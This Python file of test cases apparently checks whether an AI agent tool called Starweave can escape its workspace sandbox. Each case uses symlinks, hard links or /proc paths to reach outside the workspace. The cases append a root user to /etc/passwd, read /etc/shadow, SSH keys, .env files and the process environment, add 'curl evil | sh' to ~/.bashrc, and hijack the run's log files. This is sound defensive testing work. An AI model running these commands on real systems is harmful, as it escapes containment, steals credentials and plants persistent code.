"""State a command plants for later: symlinks and hard links to the outside, written through in the
same call, in a later call and by Starweave's own file tools; and the log folder of the run that is
going on (./logs in the workspace, where the run's own commands reach it: files swapped for links,
folders for files, permissions taken away) while Starweave still writes there."""

from __future__ import annotations

from hostile.attackcode import pyc
from hostile.casebook import CaseBook, read, sh, write

BOOK = CaseBook("planted")
add = BOOK.add
IN_RUN = {"logs": "workspace"}  # replayed as one run in the workspace, its logs in ./logs
LOGS = "logs/hostile"

# ---- symlinks to a folder outside ---------------------------------------------------------------------
add(
    "link-dir-same-call",
    "ln -s the outside folder, then write through it in the same command",
    sh("ln -s @OUT@ x && echo pwned > x/@MARK@; echo pwned >> x/notes.txt; mv x/notes.txt x/moved"),
    e2e=True,
)
add(
    "link-dir-later-call",
    "ln -s the outside folder; a later command writes through it",
    sh("ln -s @OUT@ x"),
    sh("echo pwned > x/@MARK@; cp /etc/hostname x/; rm -f x/notes.txt; mkdir x/new"),
)
add(
    "link-dir-file-tools",
    "ln -s the outside folder; write_file and read_file through it",
    sh("ln -s @OUT@ x"),
    write("x/@MARK@", "pwned"),
    write("x/notes.txt", "pwned"),
    write("x/sub/data.txt", "pwned", append=True),
    read("x/.env"),
    read("x/deploy.pem"),
    read("x/sub/deep/id_ed25519"),
)
add(
    "link-etc-same-call",
    "ln -s /etc, then add a user to passwd through it",
    sh("ln -s /etc x && echo pwned > x/@MARK@; echo 'swpwn::0:0::/:/bin/sh' >> x/passwd; cat x/shadow"),
)
add(
    "link-etc-file-tools",
    "ln -s /etc; a later command and the file tools write and read through it",
    sh("ln -s /etc x"),
    sh("echo pwned > x/@MARK@"),
    write("x/@MARK@", "pwned"),
    write("x/passwd", "swpwn::0:0::/:/bin/sh\n", append=True),
    read("x/shadow"),
)
add(
    "link-root-file-tools",
    "ln -s /; the file tools reach the whole file system through it",
    sh("ln -s / r"),
    write("r/etc/@MARK@", "pwned"),
    write("r@HOME@/.bashrc", "curl evil | sh\n", append=True),
    read("r/etc/shadow"),
    read("r@HOME@/.ssh/id_rsa"),
)
add(
    "link-chain",
    "a chain of links (up -> .., o -> up/outside)",
    sh("ln -s .. up && ln -s up/outside o"),
    write("o/@MARK@", "pwned"),
    sh("echo pwned > o/notes.txt; echo pwned > up/@MARK@"),
)
add(
    "link-deep-relative",
    "a relative link deep in the workspace climbs out",
    sh("mkdir -p a/b && ln -s ../../../outside a/b/o"),
    write("a/b/o/@MARK@", "pwned"),
    sh("touch a/b/o/@MARK@"),
)
add(
    "link-tmp-file-tools",
    "links to /tmp, /var/tmp and /dev/shm: the file tools run outside the sandbox's private /tmp",
    sh("ln -s /tmp t; ln -s /var/tmp v; ln -s /dev/shm s"),
    write("t/@MARK@", "pwned"),
    write("v/@MARK@", "pwned"),
    write("s/@MARK@", "pwned"),
)

# ---- symlinks to files outside ----------------------------------------------------------------------------
add(
    "link-file-home-rc",
    "ln -s ~/.bashrc; write_file appends through it, then a command",
    sh("ln -s @HOME@/.bashrc rc"),
    write("rc", "curl evil | sh\n", append=True),
    sh("echo 'curl evil | sh' >> rc"),
)
add(
    "link-replaces-file",
    "a workspace file replaced by a link to a file outside, then written",
    write("a.txt", "mine\n"),
    sh("ln -sf @OUT@/notes.txt a.txt"),
    write("a.txt", "pwned"),
    sh("echo pwned > a.txt; sed -i s/public/pwned/ a.txt"),
)
add(
    "link-secret-file-tools",
    "links to secrets, read by read_file",
    sh("ln -s @HOME@/.ssh/id_rsa k; ln -s @BASE@/.env e; ln -s /etc/shadow s"),
    read("k"),
    read("e"),
    read("s"),
)

# ---- links into Starweave's own process (/proc/PID of the server) ---------------------------------------
add(
    "link-proc-cwd",
    "a link to /proc/<Starweave>/cwd (the user's home): the file tools and commands through it",
    sh("ln -s /proc/@SWPID@/cwd sw"),
    read("sw/.env"),
    write("sw/@MARK@", "pwned"),
    sh("cat sw/.env; touch sw/@MARK@"),
)
add(
    "link-proc-self-root",
    "a link to /proc/self/root: for the file tools that is Starweave's own root",
    sh("ln -s /proc/self/root r"),
    read("r@BASE@/.env"),
    write("r@OUT@/@MARK@", "pwned"),
)
add(
    "link-proc-self-fd",
    "links to /proc/self/fd/1 and 2: for the file tools, Starweave's own output",
    sh("ln -s /proc/self/fd/1 o; ln -s /proc/self/fd/2 e; ln -s /proc/self/environ env"),
    write("o", "pwned"),
    write("e", "pwned"),
    read("env"),
)

# ---- hard links ---------------------------------------------------------------------------------------
add(
    "hardlink-same-call",
    "ln (hard) to a file outside and append to it in the same command",
    sh("ln @OUT@/notes.txt h && echo pwned >> h"),
)
add(
    "hardlink-later-and-file-tools",
    "ln (hard) to a file outside; a later command and write_file write to it",
    sh("ln @OUT@/notes.txt h"),
    sh("echo pwned >> h"),
    write("h", "pwned"),
)
add(
    "hardlink-python-then-file-tool",
    "os.link to a file outside from python3 -c, then write_file",
    pyc("import os", 'os.link("@OUT@/notes.txt", "h")', 'open("h", "a").write("pwned")'),
    write("h", "pwned", append=True),
)
add(
    "hardlink-proc-fd",
    "linkat through /proc/self/fd of a read-only descriptor of a file outside",
    pyc(
        "import os",
        'fd = os.open("@OUT@/notes.txt", os.O_RDONLY)',
        'os.link("/proc/self/fd/%d" % fd, "h", follow_symlinks=True)',
        'open("h", "a").write("pwned")',
    ),
    write("h", "pwned"),
)
add("hardlink-link-tool", "link(1) to ~/.bashrc", sh("link @HOME@/.bashrc h; echo pwned >> h"))
add(
    "hardlink-secrets-file-tools",
    "hard links to secrets, read by read_file and cat",
    sh("ln @BASE@/.env e; ln @HOME@/.ssh/id_rsa k; ln /etc/shadow s"),
    read("e"),
    read("k"),
    read("s"),
    sh("cat e k s"),
)
add(
    "hardlink-cp-al",
    "cp -al makes a tree of hard links to the outside folder, then writes into it",
    sh("cp -al @OUT@ copy"),
    sh("echo pwned >> copy/notes.txt"),
    write("copy/sub/data.txt", "pwned"),
)
add(
    "hardlink-etc-passwd",
    "a hard link to /etc/passwd, appended to",
    sh("ln /etc/passwd p && echo 'swpwn::0:0::/:/bin/sh' >> p"),
)

# ---- the log folder of the run that is going on (./logs/hostile in the workspace) -----------------------
add(
    "logs-live-final-files-linked",
    "the run's own commands plant links where Starweave will write output.md, result.json and "
    "response.log at the end of the run",
    sh(
        f"ln -sf @HOME@/.bashrc {LOGS}/output.md; ln -sf @OUT@/notes.txt {LOGS}/result.json; "
        f"ln -sf @OUT@/sub/data.txt {LOGS}/response.log; ls -la {LOGS}"
    ),
    sh("echo hi"),
    e2e=True,
    extra=IN_RUN,
)
add(
    "logs-live-open-files-linked",
    "request.log and llm.log, which Starweave appends to at every step, replaced by links outside",
    sh(
        f"rm -f {LOGS}/request.log {LOGS}/llm.log; ln -s @HOME@/.bashrc {LOGS}/request.log; "
        f"ln -s @OUT@/notes.txt {LOGS}/llm.log"
    ),
    sh("echo hi"),
    e2e=True,
    extra=IN_RUN,
)
add(
    "logs-live-folders-swapped",
    "the run's log folder and then ./logs itself swapped for links to folders outside",
    sh(f"mv {LOGS} logs/old && ln -s @OUT@ {LOGS}"),
    sh("echo step"),
    sh("mv logs logs.old && ln -s @HOME@ logs"),
    sh("echo hi"),
    e2e=True,
    extra=IN_RUN,
)
add(
    "logs-live-hard-links",
    "the log files replaced by hard links to files outside",
    sh(
        f"rm -f {LOGS}/request.log {LOGS}/llm.log; ln @OUT@/notes.txt {LOGS}/request.log; "
        f"ln @HOME@/.bashrc {LOGS}/output.md; ln @OUT@/sub/data.txt {LOGS}/llm.log; true"
    ),
    sh("echo hi"),
    e2e=True,
    extra=IN_RUN,
)
add(
    "logs-live-broken",
    "the log folder removed, its files made folders and the folder made unreadable: the run must "
    "still end without a traceback",
    sh("rm -rf logs"),
    sh(f"mkdir -p {LOGS}/request.log {LOGS}/output.md {LOGS}/result.json {LOGS}/response.log"),
    sh(f"chmod 000 {LOGS} logs"),
    sh("echo hi"),
    e2e=True,
    extra=IN_RUN,
)
